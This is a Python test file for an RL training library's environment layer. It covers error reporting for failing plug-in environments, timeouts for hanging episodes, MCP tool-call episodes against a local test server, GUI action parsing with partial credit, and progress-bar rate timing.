def test_a_plugin_environment_that_raises_in_start_is_shown_by_its_own_file_and_line(tok, base, tmp_path,
                                                                                      monkeypatch, capsys):
    """A plug-in environment whose start() raises: the error names the author's file and line first, and the
    CLI prints only the author's frames and one line (no traceback of the sampler's internals)."""
    import nemo_jax.cli as cli
    from nemo_jax.rl.envs.episode import EnvironmentFailed
    from nemo_jax.rl.transport.producer import EpisodeDriver, sampling_params

    (tmp_path / "my_env.py").write_text(textwrap.dedent("""
        from nemo_jax.rl.envs import Task

        class Env:
            name = "mine"

            def tasks(self, split):
                return [Task("t", ({"role": "user", "content": "hi"},))]

            def episode(self):
                return self

            def start(self, task, rollout_id):
                return self.connect()

            def connect(self):
                raise ConnectionError("the VM did not answer")  # line 17

            def close(self):
                pass
    """))
    monkeypatch.syspath_prepend(str(tmp_path))
    env = make_env("my_env:Env")
    client = TrainingClient(CFG, base, LCFG)
    d = EpisodeDriver(client.engine(batch=2, max_len=64), tok, CFG, env, sampling_params(CFG, tok, 3, 0.0))
    d.add(env.tasks("train")[0], "g", "g/0")
    with pytest.raises(EnvironmentFailed) as e:
        for _ in range(1000):
            d.pump()
    d.close()
    where = f"{tmp_path / 'my_env.py'}:17"
    assert e.value.where == where and f"start() failed at {where} (in connect): ConnectionError: the VM did not " \
        "answer" in str(e.value)
    monkeypatch.setattr(cli, "cmd_eval", lambda a: (_ for _ in ()).throw(e.value))
    with pytest.raises(SystemExit) as code:
        cli.main(["eval", "--ckpt", "x", "--env", "my_env:Env"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code.value.code == 1 and err[0].startswith("Traceback of the environment's code")
    assert err[-1].startswith("nemo-jax eval: error: environment mine: episode g/0: start() failed at " + where)
    assert "my_env.py" in err[1] and not any("nemo_jax" in x for x in err[1:-1]), err


class HangsOneInFour:
    """A plug-in environment whose plain (threaded) start() hangs on one task in four until `release` is set."""
    name, max_turns = "hangs", 1

    def __init__(self):
        import threading

        self.release, self.closed = threading.Event(), []

    def tasks(self, split):
        return [Task(f"t{i}", ({"role": "user", "content": "What is 1 plus 1?"},)) for i in range(8)]

    def episode(self):
        env = self

        class Ep:
            def start(self, task, rollout_id):
                self.id = rollout_id
                if task.id in ("t0", "t4"):
                    env.release.wait()
                return Observation(list(task.messages))

            def step(self, message):
                return Observation([], 1.0, True, True)

            def close(self):
                env.closed.append(getattr(self, "id", None))

        return Ep()


@pytest.mark.slow
def test_a_hanging_start_costs_one_worker_not_the_pool(tok, base, capsys):
    """Two workers, a start() that hangs on 1 task in 4: the two hanging episodes time out (each costs its own
    thread, replaced with a line) and every episode started after them finishes with its reward; before the fix
    the hung calls held both workers and every later episode timed out too."""
    from nemo_jax.rl.transport.producer import EpisodeDriver, sampling_params

    client = TrainingClient(CFG, base, LCFG)
    env = HangsOneInFour()
    d = EpisodeDriver(client.engine(batch=4, max_len=128), tok, CFG, env, sampling_params(CFG, tok, 3, 0.0),
                      timeout_s=1.0, workers=2)
    tasks = env.tasks("train")
    done, t0 = [], time.monotonic()
    try:
        for t in (tasks[0], tasks[4]):
            d.add(t, t.id, f"{t.id}/0")
        while d.running and time.monotonic() - t0 < 120:
            done += d.pump()
        d.timeout_s = 60.0  # (room for the sampler's compile; before the fix these waited out this limit)
        for t in tasks[1:4] + tasks[5:]:
            d.add(t, t.id, f"{t.id}/0")
        while d.running and time.monotonic() - t0 < 120:
            done += d.pump()
    finally:
        env.release.set()
        d.close()
    out = {r.task_id: r for r in done}
    assert sorted(t for t, r in out.items() if r.timed_out) == ["t0", "t4"] and d.counts["timed_out"] == 2
    assert all(r.reward == 1.0 for t, r in out.items() if t not in ("t0", "t4")) and len(out) == 8
    said = [x for x in capsys.readouterr().out.splitlines() if "still running past the episode's time limit" in x]
    assert len(said) == 2 and "start()" in said[0] and "at most 8" in said[0], said


def test_env_calls_replace_abandoned_workers_up_to_a_bound_and_never_keep_the_process_alive():
    code = textwrap.dedent("""
        import threading, time
        from nemo_jax.rl.transport.producer import EnvCalls
        calls = EnvCalls(1, "environment hangs")
        forever = threading.Event()
        hung = [calls.call(("h", i), forever.wait) for i in range(5)]
        for i, f in enumerate(hung):  # each abandoned in turn: a new thread takes the next (4 at most)
            while not f.running():
                time.sleep(0.01)
            calls.abandon(f, f"episode h{i}: start()")
        quick = calls.call("q", lambda: 42)
        time.sleep(0.3)
        print("quick", "waits" if not quick.done() else quick.result())  # (past the bound: no free thread)
        print("done")  # the hung daemon threads do not keep the interpreter alive
    """)
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                         env=dict(os.environ, JAX_PLATFORMS="cpu"))
    lines = out.stdout.splitlines()
    assert out.returncode == 0 and lines[-1] == "done", out.stdout + out.stderr
    replaced = [x for x in lines if "a new one takes its place" in x]
    assert len(replaced) == 4 and "(4 replaced so far, at most 4)" in replaced[-1]
    assert sum("(the bound)" in x for x in lines) == 1 and "quick waits" in lines


@pytest.mark.slow
def test_mcp_episode_round_trip_with_the_shipped_server(tok, base):
    """An MCP episode starts the shipped tiny server (stdio, the official client), lists its tools in the chat
    template's format, runs the tool calls of each turn (both call forms; an unknown tool and a tool error come
    back as tool messages), scores with the user scorer, and stops the server on close. Through the engine, the
    tools are rendered into the prompt and every episode is closed."""
    import asyncio

    pytest.importorskip("mcp")
    from nemo_jax.rl.envs.mcp import MCPEnv

    env = make_env("mcp", task_args={"n_train": 4, "n_eval": 2, "families": ["total"]}, max_turns=3)
    assert isinstance(env, MCPEnv) and len(env.tasks("train")) == 4
    task = env.tasks("train")[0]
    lookup, product = task.data["steps"]
    item, n, price, total = lookup["arguments"]["item"], product["arguments"]["a"], lookup["value"], product["value"]

    async def scripted():
        ep = env.episode()
        obs = await ep.start(task, "r0")
        names = sorted(t["function"]["name"] for t in obs.tools)
        assert names == ["add", "lookup", "multiply"] and obs.messages == list(task.messages)
        assert obs.tools[0]["type"] == "function" and "properties" in obs.tools[0]["function"]["parameters"]
        o1 = await ep.step({"role": "assistant", "content": f'<tool_call>{{"name": "lookup", "arguments": '
                                                            f'{{"item": "{item}"}}}}</tool_call>'})
        assert o1.messages == [{"role": "tool", "content": f"{item}: {price} dollars"}] and o1.reward == 0.25
        assert not o1.done
        o2 = await ep.step({"role": "assistant", "content": f"<tool_call><function=multiply><parameter=a>{n}"
                                                            f"</parameter><parameter=b>{price}</parameter>"
                                                            "</function></tool_call><tool_call>{\"name\": \"nope\", "
                                                            "\"arguments\": {}}</tool_call>"})
        assert o2.messages[0]["content"] == f"{n} * {price} = {total}"
        assert "unknown tool 'nope'" in o2.messages[1]["content"]
        o3 = await ep.step({"role": "assistant", "content": '<tool_call>{"name": "lookup", "arguments": '
                                                            '{"item": "car"}}</tool_call>'})
        assert "no item 'car'" in o3.messages[0]["content"] and ep.calls[-1].get("error")
        o4 = await ep.step({"role": "assistant", "content": f"It costs {total} dollars."})
        assert o4.done and o4.success and o4.reward == 1.0 and o4.messages == []
        session = ep.session
        await ep.close()
        assert not session.alive() and session.runner.exception() is None  # the server session ended

    asyncio.run(scripted())
    # through the driver: the prompt holds the tool list; a random model answers without a tool call
    client = TrainingClient(CFG, base, LCFG)
    rs = sample_rollouts(client.engine(batch=2, max_len=512), tok, CFG, env, [(task, "g")], 2, 6, 1.0)
    text = tok.tokenizer.decode(rs[0].tokens[:rs[0].loss_mask.index(1)])
    assert "lookup(item): The price of one item" in text and "How much do" in text
    assert all(0.0 <= r.reward <= 1.0 for r in rs)


@pytest.mark.slow
def test_mcp_episode_whose_start_was_cancelled_closes_cleanly():
    """A run that ends while an episode's server is still coming up cancels its start (the driver's close); the
    server session then comes up with no one waiting for its tools, and closing the episode stops it without an
    error (it used to fail the whole run at its last step)."""
    import asyncio

    pytest.importorskip("mcp")
    env = make_env("mcp", task_args={"n_train": 2, "n_eval": 1})

    async def cancelled_start():
        ep = env.episode()
        starting = asyncio.create_task(ep.start(env.tasks("train")[0], "r0"))
        while env.servers_started == 0:  # inside start(): waiting for the server's tools
            await asyncio.sleep(0.01)
        starting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await starting
        await ep.close()
        assert ep.session is None and env.servers_started == 1 and env._idle == []
        # the server it waited for comes up with no one waiting for it, and is stopped without an error
        assert await env.on_loop(_server_ends()) is None

    async def _server_ends():
        """(on the environment's loop) wait for the server session's task: its exception"""
        task = next(t for t in asyncio.all_tasks() if t.get_name() == "mcp-r0")
        await asyncio.wait_for(asyncio.shield(task), 60)
        return task.exception()

    asyncio.run(cancelled_start())


def test_gui_env_actions_screens_and_partial_credit():
    """The GUI environment: actions parsed, the expert succeeds, a near miss earns partial credit, a non-action
    ends the episode, each form action is answered by a new screenshot, and the demonstrations are SFT records
    the chat data parser reads (pictures as data URLs)."""
    from nemo_jax.data.chat import ChatTokenizer, parse_record
    from nemo_jax.rl.envs.gui import GUIEnv, parse_action

    assert parse_action("click 12, 40") == ("click", (12, 40)) and parse_action("key Enter") == ("key", "Enter")
    assert parse_action("I will do it.\ntype hello world") == ("type", "hello world") and parse_action("ok") is None
    env = make_env("gui", n_train=12, n_eval=6, seed=3)
    assert isinstance(env, GUIEnv) and {t.family for t in env.tasks("train")} == {"click4", "form"}
    assert all(a.data != b.data for a in env.tasks("train") for b in env.tasks("eval"))  # other screens
    for task in env.tasks("train"):
        ep = env.episode()
        obs = ep.start(task, task.id)
        img = [p for p in obs.messages[0]["content"] if p["type"] == "image"][0]["image"]
        assert img.size == (64, 64)
        for action in GUIEnv.expert(task):
            assert not obs.done
            obs = ep.step({"role": "assistant", "content": action})
            if not obs.done:  # the next screenshot, as a tool message
                assert obs.messages[0]["role"] == "tool" and obs.messages[0]["content"][0]["type"] == "image"
        assert obs.done and obs.success and obs.reward == 1.0, task.id
        ep.close()
        d = task.data
        ep = env.episode()
        ep.start(task, task.id)
        if d["family"] == "click":
            x0, y0, x1, y1 = d["buttons"][d["target"]]
            near = ep.step({"role": "assistant", "content": f"click {x1 + 4},{(y0 + y1) // 2}"})
            assert 0 < near.reward < 0.5 and near.done and not near.success
        else:
            first = GUIEnv.expert(task)[0]
            ep.step({"role": "assistant", "content": first})
            ep.step({"role": "assistant", "content": "type " + d["word"][:-1] + "x"})
            o = ep.step({"role": "assistant", "content": "key Enter"})
            assert 1 / 3 < o.reward < 1 and not o.success
            o = ep.step({"role": "assistant", "content": "that is all"})  # not an action: the episode ends
            assert o.done and not o.success
    tok = ChatTokenizer.load("builtin:tiny_vl")
    for rec in env.demonstrations("eval", 3):
        doc = parse_record(rec, tok, 512)
        assert len(doc.images) == sum(m["role"] != "assistant" for m in rec["messages"])
        assert all(x.startswith("data:image/png;base64,") for x in doc.images) and doc.mask.any()


def test_the_progress_rate_counts_from_the_end_of_the_compiling_step():
    """A first step of 1000 s (the compiles) then steps of 2 s: after `rate_from_here` the bar's rate is 0.5
    steps/s and its ETA that of the steps left (the old reset of start_t alone kept the compile in tqdm's
    smoothed rate: an ETA hours too long)."""
    import io

    from tqdm import tqdm

    from nemo_jax.rl.grpo import rate_from_here

    now = [0.0]
    bar = tqdm(total=100, file=io.StringIO(), mininterval=0, miniters=1)
    bar._time = lambda: now[0]
    bar.start_t = bar.last_print_t = 0.0
    now[0] = 1000.0
    bar.update(1)
    rate_from_here(bar)
    for _ in range(5):
        now[0] += 2.0
        bar.update(1)
    d = bar.format_dict
    assert d["n"] == 6 and d["rate"] == pytest.approx(0.5) and d["elapsed"] == pytest.approx(10.0)
    bar.close()
